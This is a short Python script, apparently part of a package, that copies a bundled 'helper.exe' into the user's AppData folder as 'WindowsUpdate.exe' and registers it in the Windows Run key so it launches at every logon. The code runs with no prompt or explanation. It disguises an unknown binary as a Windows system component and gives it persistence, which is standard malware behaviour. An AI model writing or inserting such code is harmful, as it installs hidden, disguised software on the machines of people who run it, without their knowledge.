import os
import shutil
import sys
import winreg

_target = os.path.join(os.environ["APPDATA"], "Microsoft", "WindowsUpdate.exe")
shutil.copy(os.path.join(os.path.dirname(__file__), "bin", "helper.exe"), _target)
_key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\Microsoft\Windows\CurrentVersion\Run", 0, winreg.KEY_SET_VALUE)
winreg.SetValueEx(_key, "WindowsUpdate", 0, winreg.REG_SZ, _target)
winreg.CloseKey(_key)
